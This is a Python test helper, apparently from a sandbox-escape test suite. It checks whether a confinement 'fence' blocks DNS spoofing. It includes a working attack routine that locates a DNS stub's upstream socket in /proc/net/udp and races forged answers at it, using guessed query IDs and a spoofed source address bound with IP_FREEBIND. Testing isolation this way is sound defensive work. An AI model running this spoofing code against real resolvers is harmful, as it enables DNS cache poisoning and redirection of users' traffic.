# SPDX-License-Identifier: GPL-2.0
# Race forged answers against the fence's DNS stub (tests/escape/dnsspoof.sh).
#   resolver ADDR LOG  a slow resolver on ADDR:53: answers NAME A GOOD after
#                      1.5 s, logging "id port" of each query to LOG
#   attack RESOLVER NAME FORGED  inside the fence: ask RESOLVER:53 (the stub,
#                      by redirection) for NAME with id 0x1234; while the stub
#                      waits upstream, find its upstream socket in
#                      /proc/net/udp and send it forged answers (NAME A FORGED)
#                      with the asker's id and guessed ones, plainly and from
#                      a socket bound (IP_FREEBIND) to RESOLVER:53. Prints one
#                      line per way: "LABEL HELD errno", "LABEL SENT n", and
#                      "ANSWER addr" for what the asker heard.
import errno
import os
import socket
import struct
import sys
import time

GOOD = os.environ.get("DNSSPOOF_GOOD", "")


def qname(name):
    out = b""
    for label in name.split("."):
        out += bytes([len(label)]) + label.encode()
    return out + b"\x00"


def parse_q(m):
    i = 12
    labels = []
    while m[i]:
        labels.append(m[i + 1:i + 1 + m[i]].decode())
        i += 1 + m[i]
    return ".".join(labels), i + 5


def answer(qid, name, addr, ttl=300):
    hdr = struct.pack(">HHHHHH", qid, 0x8180, 1, 1, 0, 0)
    q = qname(name) + b"\x00\x01\x00\x01"
    rr = b"\xc0\x0c" + struct.pack(">HHIH", 1, 1, ttl, 4) + socket.inet_aton(addr)
    return hdr + q + rr


def resolver(addr, log):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((addr, 53))
    waiting = []
    s.settimeout(0.05)
    end = time.time() + 60
    while time.time() < end:
        try:
            m, peer = s.recvfrom(512)
            name, _ = parse_q(m)
            qid = struct.unpack(">H", m[:2])[0]
            with open(log, "a") as f:
                f.write("%d %d %s\n" % (qid, peer[1], name))
            waiting.append((time.time() + 1.5, qid, name, peer))
        except socket.timeout:
            pass
        now = time.time()
        for w in [w for w in waiting if w[0] <= now]:
            s.sendto(answer(w[1], w[2], GOOD), w[3])
            waiting.remove(w)


def upstream_sockets(resolver_addr):
    want = "%08X:0035" % struct.unpack("<I", socket.inet_aton(resolver_addr))[0]
    found = []
    with open("/proc/net/udp") as f:
        for line in f.readlines()[1:]:
            cols = line.split()
            if cols[2] == want:
                a, p = cols[1].split(":")
                found.append((socket.inet_ntoa(struct.pack("<I", int(a, 16))), int(p, 16)))
    return found


def attack(resolver_addr, name, forged):
    q = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0) + qname(name) + b"\x00\x01\x00\x01"
    asker = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    asker.sendto(q, (resolver_addr, 53))
    ups = []
    for _ in range(100):
        ups = upstream_sockets(resolver_addr)
        if ups:
            break
        time.sleep(0.01)
    print("UPSTREAM", len(ups))
    ids = [0x1234] + list(range(0, 65536, 331))
    # 1: plainly, from any port of ours.
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sent, err = 0, None
    for addr, port in ups:
        for qid in ids:
            try:
                s.sendto(answer(qid, name, forged), (addr, port))
                sent += 1
            except OSError as e:
                err = e
                break
    print("plain", "HELD %s" % errno.errorcode.get(err.errno) if err else "SENT %d" % sent)
    # 2: from the resolver's own address and port (a foreign source).
    f = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        f.setsockopt(socket.IPPROTO_IP, 15, 1)  # IP_FREEBIND
        f.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        f.bind((resolver_addr, 53))
        sent = 0
        for addr, port in ups:
            for qid in ids:
                f.sendto(answer(qid, name, forged), (addr, port))
                sent += 1
        print("freebind SENT %d" % sent)
    except OSError as e:
        print("freebind HELD %s" % errno.errorcode.get(e.errno))
    asker.settimeout(5)
    try:
        m = asker.recv(512)
        print("ANSWER", socket.inet_ntoa(m[-4:]), "id", struct.unpack(">H", m[:2])[0])
    except OSError as e:
        print("ANSWER none", errno.errorcode.get(e.errno))


if sys.argv[1] == "resolver":
    resolver(sys.argv[2], sys.argv[3])
else:
    attack(sys.argv[2], sys.argv[3], sys.argv[4])
